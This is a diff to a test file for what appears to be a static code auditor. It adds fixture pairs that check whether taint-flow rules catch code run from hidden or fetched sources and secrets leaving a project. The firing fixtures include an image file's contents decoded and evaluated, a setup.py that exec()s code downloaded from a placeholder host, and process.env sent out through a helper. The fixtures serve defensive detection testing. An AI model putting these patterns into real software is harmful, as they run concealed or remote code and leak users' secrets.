@@ -177,6 +177,73 @@ const taken: typeof rows = [
   ["Perl, a function that is imported, and one that runs", "flow/opaque-runs", perl("run(load());"), perl("print load();")],
 ]
 
+/** What may not hide behind names of other files. */
+const hidden: typeof rows = [
+  [
+    "a method of a library in a file that takes in another (Ruby)",
+    "flow/opaque-runs",
+    { ...binary, "lib/x.rb": "", "lib/a.rb": 'require_relative "x"\nFoo.class_eval(Base64.decode64(File.read("p/icon.png")))\n' },
+    { ...binary, "lib/x.rb": "", "lib/a.rb": 'require_relative "x"\nFoo.puts(Base64.decode64(File.read("p/icon.png")))\n' },
+  ],
+  [
+    "a method of a library in a file that takes in another (Python)",
+    "flow/fetched-runs",
+    { "c.py": "", "setup.py": 'import third\nfrom c import *\nexec(third.urlopen("https://a.example.org/x").read())\n' },
+    { "c.py": "", "setup.py": 'import third\nfrom c import *\nprint(third.urlopen("https://a.example.org/x").read())\n' },
+  ],
+  [
+    "a record that was looked into first, three deep",
+    "flow/opaque-runs",
+    {
+      ...binary,
+      "d.js": 'const f = { g: () => require("fs").readFileSync("p/icon.png") }\nexports.a = { b: { c: f } }\nexports.f = f\n',
+      "a.js": 'eval(require("./d").f.g().toString())\n',
+    },
+    {
+      ...binary,
+      "d.js": 'const f = { g: () => require("fs").readFileSync("p/icon.png") }\nexports.a = { b: { c: f } }\nexports.f = f\n',
+      "a.js": 'log(require("./d").f.g().toString())\n',
+    },
+  ],
+  [
+    "one of two records that a module may be",
+    "flow/opaque-runs",
+    {
+      ...binary,
+      "d.js": 'const fs = require("fs")\nmodule.exports = x ? { f: () => fs.readFileSync("p/icon.png") } : { f: () => "" }\n',
+      "a.js": 'eval(require("./d").f().toString())\n',
+    },
+    {
+      ...binary,
+      "d.js": 'const fs = require("fs")\nmodule.exports = x ? { f: () => fs.statSync("p/icon.png") } : { f: () => "" }\n',
+      "a.js": 'eval(require("./d").f().toString())\n',
+    },
+  ],
+  [
+    "a member of a function is not the function (a client that is configured)",
+    "flow/secret-leaves",
+    { "d.js": `module.exports = function f(x) { return ${send("x")} }\n`, "a.js": 'require("./d")(JSON.stringify(process.env))\n' },
+    {
+      "d.js": `module.exports = function f(x) { return ${send("x")} }\nmodule.exports.set = (x) => { y = x.HTTP_PROXY }\n`,
+      "a.js": 'require("./d").set(process.env)\n',
+    },
+  ],
+  [
+    "functions of texts inside a text are others'",
+    "flow/opaque-runs",
+    {
+      ...binary,
+      "d.js": "exports.f = (x) => new Function(x)()\n",
+      "a.js": 'require("./d").f(require("fs").readFileSync("p/icon.png").toString())\n',
+    },
+    {
+      ...binary,
+      "d.js": 'exports.f = (x) => x.length\nsetTimeout("function g(p) { eval(p) }")\n',
+      "a.js": 'require("./d").f(require("fs").readFileSync("p/icon.png").toString())\n',
+    },
+  ],
+]
+
 /** Texts that build systems read, take apart and evaluate. */
 const evaluated: typeof rows = [
   [
@@ -194,9 +261,30 @@ const evaluated: typeof rows = [
 ]
 
 describe("what one file has and another uses", () => {
-  it.each([...rows, ...taken, ...evaluated])("%s", async (_, rule, fires, silent) => {
+  it.each([...rows, ...taken, ...hidden, ...evaluated])("%s", async (_, rule, fires, silent) => {
     const found = async (files: Files): Promise<readonly string[]> => (await audited(sample(files))).findings.map((finding) => finding.rule)
     expect(await found(fires)).toContain(rule)
     expect(await found(silent)).not.toContain(rule)
+  })
+
+  it("ends where files take in each other, and where one hands on what the next has, five thousand times", async () => {
+    const circle = Object.fromEntries(
+      Array.from({ length: 12 }, (_, at) => [
+        `lib/m${at}.rb`,
+        `${Array.from({ length: 12 }, (__, other) => `require_relative "m${other}"\n`).join("")}eval(Foo.bar${at}(File.read("x")))\n`,
+      ]),
+    )
+    const chain = Object.fromEntries(
+      Array.from({ length: 5000 }, (_, at) => [`m${at}.js`, `exports.x = "a" + require("./m${at + 1}").x\n`]),
+    )
+    const { findings } = await audited(
+      sample({
+        ...circle,
+        ...chain,
+        ...binary,
+        "a.js": 'eval(require("./m0").x)\neval(require("fs").readFileSync("p/icon.png").toString())\n',
+      }),
+    )
+    expect(findings.map(({ rule }) => rule)).toContain("flow/opaque-runs")
   })
 })
